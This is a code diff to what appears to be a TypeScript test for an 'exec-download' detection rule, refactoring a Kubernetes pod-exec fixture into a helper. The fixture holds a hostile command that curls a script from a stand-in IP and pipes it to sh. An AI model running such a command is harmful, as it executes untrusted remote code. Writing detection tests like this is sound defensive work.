@@ -1,14 +1,7 @@
 import { execDownload } from '../../../../shared/detection/rules/exec-download.ts';
-import { ruleCases } from '../cases.ts';
+import { execOfCart, ruleCases } from '../cases.ts';
 
-const BASE = {
-  verb: 'create',
-  resource: 'pods',
-  subresource: 'exec',
-  namespace: 'shop',
-  name: 'cart-0',
-  command: "sh -c 'curl -fsSL http://203.0.113.9/x.sh | sh'",
-};
+const BASE = execOfCart("sh -c 'curl -fsSL http://203.0.113.9/x.sh | sh'");
 const SHOWN = { severity: 'medium', confidence: 0.4 } as const;
 
 describe('rule exec-download', () => {
